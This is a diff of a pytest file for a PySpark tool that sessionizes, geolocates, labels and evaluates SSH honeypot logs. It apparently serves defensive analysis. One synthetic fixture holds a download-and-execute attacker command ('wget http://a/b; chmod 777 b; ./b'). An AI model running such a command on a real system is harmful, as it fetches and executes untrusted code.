@@ -2,17 +2,20 @@
 
 import datetime as dt
 import gzip
+import ipaddress
 import json
 import re
+import struct
 
 import pytest
 from pyspark.sql import functions as F
 
 from vigilspark import catalog, cli
 from vigilspark.functions.columns import decoded_payloads, hits, looks_like_typo, occurrences, rounded
-from vigilspark.operators import documents, features, labeler, sessionize
-from vigilspark.sources import adapter, logs, records
-from vigilspark.streaming.sessions import stream_sessions
+from vigilspark.operators import agents, documents, features, labeler, sessionize
+from vigilspark.session import Settings, load_env
+from vigilspark.sources import adapter, geo, logs, records
+from vigilspark.streaming.sessions import flush_sessions, stream_sessions
 
 COLUMNS = "location string, session string, seq long, kind string, ts timestamp, src_ip string, src_port int, dst_ip string, dst_port int, protocol string, ssh_version string, hassh string, hassh_algorithms string, username string, password string, input string, url string, shasum string, outfile string, destfile string, duration double, source_file string"
 NAMES = [c.split()[0] for c in COLUMNS.split(", ")]
@@ -175,15 +178,167 @@ def test_command_line_exports_and_records_come_back(spark, sensor, capsys):
     assert spark.read.parquet(f"{sensor}/table").where("location = 'ssh-ny'").count() == 2
 
 
-def test_stream_equals_batch_over_two_batches(spark, tmp_path):
+def _streamed(spark, tmp_path, parts, flush=True, **more):
     e = spark.read.parquet("/root/testdata/sf0.001/events.parquet")
-    for i, part in enumerate(("event_id <= 400", "event_id > 400")):
+    out, state = str(tmp_path / "out"), str(tmp_path / "state")
+    for part in parts:
         e.where(part).coalesce(1).write.mode("append").parquet(str(tmp_path / "in"))
-        out = str(tmp_path / "out")
         src = adapter.as_log(spark.readStream.schema(e.schema).parquet(str(tmp_path / "in")))
-        q = stream_sessions(src).writeStream.format("parquet").option("path", out).option("checkpointLocation", str(tmp_path / "state")).trigger(availableNow=True).start()
-        q.awaitTermination()
-    cols = ["session_id", "seg", "event_count", "n_logins", "n_commands", "session_type"]
-    want = sessionize.sessions(adapter.as_log(e)).where("is_closed").select(*cols)
-    got = spark.read.parquet(out).select(*cols)
-    assert sorted(map(tuple, got.collect())) == sorted(map(tuple, want.collect()))
+        stream_sessions(src, out, state, finish=lambda x: sessionize.sessions(x), **more).awaitTermination()
+    if flush:
+        flush_sessions(spark, out, state, finish=lambda x: sessionize.sessions(x))
+        flush_sessions(spark, out, state, finish=lambda x: sessionize.sessions(x))
+    cols = ["session_id", "seg", "event_count", "is_closed", "n_logins", "n_commands", "session_type"]
+    rows = lambda d: sorted(map(tuple, d.select(*cols).collect()))
+    return rows(spark.read.parquet(out)), rows(sessionize.sessions(adapter.as_log(e)))
+
+
+def test_stream_equals_batch_over_three_batches(spark, tmp_path):
+    got, want = _streamed(spark, tmp_path, ("event_id <= 400", "event_id > 400 and event_id < 700", "event_id >= 700"))
+    assert got == want
+
+
+def test_open_sessions_wait_for_the_flush(spark, tmp_path):
+    got, want = _streamed(spark, tmp_path, ("event_id <= 500", "event_id > 500"), flush=False)
+    assert got == [w for w in want if w[3]]
+
+
+def test_sessions_expire_and_their_numbers_go_on(spark, tmp_path):
+    got, want = _streamed(spark, tmp_path, ("event_id <= 400", "event_id > 400"), expire="1 second")
+    keys = [g[:2] for g in got]
+    assert len(keys) == len(set(keys)) and sum(g[2] for g in got) == sum(w[2] for w in want)
+    by = {}
+    for name, seg in keys:
+        by.setdefault(name, []).append(seg)
+    assert all(sorted(v) == list(range(len(v))) for v in by.values())
+
+
+def test_a_flushed_stream_goes_on(spark, tmp_path):
+    _streamed(spark, tmp_path, ("event_id <= 300",))
+    got, want = _streamed(spark, tmp_path, ("event_id > 300",))
+    keys = [g[:2] for g in got]
+    assert len(keys) == len(set(keys)) and sum(g[2] for g in got) == sum(w[2] for w in want)
+
+
+def test_commands_from_export_to_evaluation(spark, sensor, capsys, tmp_path):
+    e = lambda s, kind, at, **x: {"eventid": f"sensor.{kind}", "session": s, "timestamp": f"2024-01-01T00:{at:02}:00Z", **x}
+    rows = []
+    for k in range(30):
+        cmds = ["ls -la", "wget http://a/b; chmod 777 b; ./b"][: 1 + (k % 3 == 0)]
+        rows += [e(f"s{k}", "session.connect", 1, src_ip="81.2.3.4"), e(f"s{k}", "login.success", 2, username="root", password="p"), *[e(f"s{k}", "command.input", 3 + i, input=c) for i, c in enumerate(cmds)], e(f"s{k}", "session.closed", 9)]
+    place = sensor / "ssh-x"
+    place.mkdir()
+    _write(place / "sensor.json.2024_1_1.gz", *rows)
+    at = lambda name: str(tmp_path / "made" / name)
+    (tmp_path / "made").mkdir()
+    (tmp_path / "made/blocks.csv").write_text("network,geoname_id,latitude,longitude,accuracy_radius\n81.2.0.0/16,7,1.5,2.5,10\n")
+    (tmp_path / "made/names.csv").write_text("geoname_id,continent_code,country_name,country_iso_code,subdivision_1_name,city_name,time_zone\n7,EU,Land,LD,R,C,T\n")
+    assert cli.main(["sessions", "--location", "ssh-x", "--data-dir", str(sensor), "--export", at("flat"), "--geo", at("blocks.csv"), "--geo-names", at("names.csv")]) == 0
+    assert spark.read.json(at("flat")).where("geo.F48_country_iso = 'LD'").count() == 30
+    assert cli.main(["check", "--input", at("flat")]) == 0 and json.loads(capsys.readouterr().out.splitlines()[-1]) == {"total": 30, "bad": 0}
+    (tmp_path / "made/bad.json").write_text('{"session_id": "x"}\n')
+    assert cli.main(["check", "--input", at("bad.json")]) == 1
+    assert cli.main(["train", "--input", at("flat"), "--model", at("model.json"), "--min-samples", "5"]) == 0 and "trained=True" in capsys.readouterr().out
+    assert cli.main(["review", "--input", at("flat"), "--output", at("dry"), "--dry-run", "--limit", "10"]) == 0
+    dry = spark.read.json(at("dry"))
+    assert dry.count() == dry.where("labels_agentic.was_anomaly and not labels_agentic.pipeline_metrics.sent_to_hunter").count() == 10
+    assert cli.main(["review", "--input", at("flat"), "--output", at("labelled"), "--client", "tests.test_sessions:failing_client", "--rpm", "100000"]) == 0
+    said = json.loads(capsys.readouterr().out.splitlines()[-1])
+    assert (said["sent_to_hunter"], said["errors"]) == (30, 10)
+    assert cli.main(["retry", "--input", at("labelled"), "--output", at("merged"), "--rpm", "100000"]) == 0
+    assert json.loads(capsys.readouterr().out.splitlines()[-1]) == {"merged": 10, "unchanged": 20, "not_found": 0}
+    merged = spark.read.json(at("merged"))
+    assert merged.where("labels_agentic.analyst_verdict.level = 1").count() == 10 and merged.where("labels_agentic.hunter_verdict = 'NOISE'").count() == 20
+    assert cli.main(["retry", "--again", "--input", at("merged"), "--output", at("again"), "--rpm", "100000"]) == 0
+    assert spark.read.json(at("again")).where("labels_agentic.analyst_verdict.level = 1").count() == 10
+    assert cli.main(["report", "--input", at("merged"), "--output", at("report.json")]) == 0
+    assert json.loads((tmp_path / "made/report.json").read_text())["funnel"][0]["dual_labeled"] == 10
+    assert cli.main(["sample", "--input", at("merged"), "--output", at("sample"), "--total", "60"]) == 0
+    meta = json.loads((tmp_path / "made/sample/metadata.json").read_text())
+    full = spark.read.json(at("sample/full"))
+    assert meta["final_sample"]["total"] == full.count() > 0 and "agent_label" not in spark.read.json(at("sample/blind")).columns
+    votes = [{"annotation_id": r["annotation_id"], "annotator": a, "primary_tactic": "Execution", "threat_level": 1, "confidence": 3, "is_false_negative_risk": False} for r in full.collect() for a in "xy"]
+    (tmp_path / "made/votes.json").write_text("\n".join(map(json.dumps, votes)))
+    assert cli.main(["evaluate", "--full", at("sample/full"), "--votes", at("votes.json"), "--output", at("scores.json"), "--resamples", "50"]) == 0
+    scores = json.loads((tmp_path / "made/scores.json").read_text())
+    assert scores["b_overall"][0]["accuracy"] == 1.0 and scores["annotators"][0]["n_overlap"] == full.count()
+
+
+def failing_client():
+    return agents.ScriptedClient(fail_on="chmod 777")
+
+
+def test_settings_come_from_a_file_unless_they_are_there(tmp_path, monkeypatch):
+    monkeypatch.setenv("THERE", "old")
+    monkeypatch.setenv("DATA_DIR", "x")
+    monkeypatch.delenv("DATA_DIR")
+    (tmp_path / ".env").write_text("# note\nTHERE=new\n DATA_DIR = /logs = a \nno pair\n")
+    assert load_env(str(tmp_path / ".env")) == {"DATA_DIR": "/logs = a"} and Settings().data_dir == "/logs = a"
+    monkeypatch.delenv("DATA_DIR")
+    assert load_env(str(tmp_path / "none")) == {}
+
+
+def _mmdb(nets: list[tuple[str, dict]], bits: int) -> bytes:
+    """A database as its format says: tree, 16 zeros, values, mark, metadata."""
+
+    def encode(v) -> bytes:
+        if isinstance(v, bool):
+            return bytes([int(v), 7])
+        kind, raw = (2, v.encode()) if isinstance(v, str) else (3, struct.pack(">d", v)) if isinstance(v, float) else (6, v.to_bytes(4, "big")) if isinstance(v, int) else (7, b"") if isinstance(v, dict) else (11, b"")
+        if kind == 7:
+            return bytes([kind << 5 | len(v)]) + b"".join(encode(k) + encode(x) for k, x in v.items())
+        if kind == 11:
+            return bytes([len(v), 4]) + b"".join(map(encode, v))
+        size = len(raw)
+        return bytes([kind << 5 | min(size, 29)]) + (bytes([size - 29]) if size >= 29 else b"") + raw
+
+    nodes: list[list] = [[None, None]]
+    data, at = b"", []
+    for _, place in nets:
+        at.append(len(data))
+        data += encode(place)
+    for (net, _), offset in zip(nets, at):
+        ip, size = net.split("/")
+        n, node = int(ipaddress.ip_address(ip)), 0
+        for i in range(int(size)):
+            side = n >> 31 - i & 1
+            if i == int(size) - 1:
+                nodes[node][side] = ("data", offset)
+            else:
+                if nodes[node][side] is None:
+                    nodes.append([None, None])
+                    nodes[node][side] = len(nodes) - 1
+                node = nodes[node][side]
+    count, tree = len(nodes), b""
+    for pair in nodes:
+        a, b = (count if x is None else count + 16 + x[1] if isinstance(x, tuple) else x for x in pair)
+        tree += (a & 0xFFFFFF).to_bytes(3, "big") + bytes([a >> 24 << 4 | b >> 24]) + (b & 0xFFFFFF).to_bytes(3, "big") if bits == 28 else a.to_bytes(bits // 8, "big") + b.to_bytes(bits // 8, "big")
+    return tree + bytes(16) + data + b"\xab\xcd\xefMaxMind.com" + encode({"node_count": count, "record_size": bits, "ip_version": 4})
+
+
+@pytest.mark.parametrize("bits", [24, 28, 32])
+def test_ranges_of_a_city_database(spark, tmp_path, bits):
+    city = {"continent": {"code": "EU"}, "country": {"iso_code": "GB", "names": {"en": "United Kingdom", "fr": "Royaume-Uni"}}, "city": {"names": {"en": "A city with a name of more than thirty letters"}}, "subdivisions": [{"names": {"en": "England"}}], "location": {"longitude": -0.1, "latitude": 51.5, "time_zone": "Europe/London", "accuracy_radius": 10}}
+    (tmp_path / "c.mmdb").write_bytes(_mmdb([("81.2.0.0/17", city), ("9.9.9.9/32", {"country": {"iso_code": "US"}, "extra": True})], bits))
+    rows = {(r["low"], r["high"]): r for r in geo.read_geo(spark, str(tmp_path / "c.mmdb")).collect()}
+    assert set(rows) == {("81.2.0.0", "81.2.127.255"), ("9.9.9.9", "9.9.9.9")}
+    r = rows["81.2.0.0", "81.2.127.255"]
+    assert tuple(r)[2:] == ("EU", "United Kingdom", "GB", "England", "A city with a name of more than thirty letters", -0.1, 51.5, "Europe/London", 10)
+    assert rows["9.9.9.9", "9.9.9.9"]["country_iso"] == "US" and rows["9.9.9.9", "9.9.9.9"]["city_name"] == ""
+    assert geo.read_geo(spark, str(tmp_path / "none.mmdb")) is None and geo.read_geo(spark, "") is None
+
+
+def test_a_table_keeps_its_mapping(spark, tmp_path):
+    d = spark.createDataFrame([("a", "x", 1), (None, "y", 2)], "session_id string, location string, n int")
+    path = str(tmp_path / "t")
+    records.create_table(spark, path, d.schema)
+    assert records.insert(d, path) == {"written": 2, "unnamed": 1, "locations": 2}
+    records.insert(d.select("session_id", "location"), path)
+    assert records.read_table(spark, path).schema == d.schema and records.read_table(spark, path).count() == 4
+    with pytest.raises(ValueError):
+        records.insert(d.withColumn("more", d["n"]), path)
+    with pytest.raises(Exception):
+        records.create_table(spark, path, d.schema)
+    records.create_table(spark, path, d.schema, replace=True)
+    records.insert(d, path)
+    assert records.read_table(spark, path).count() == 2
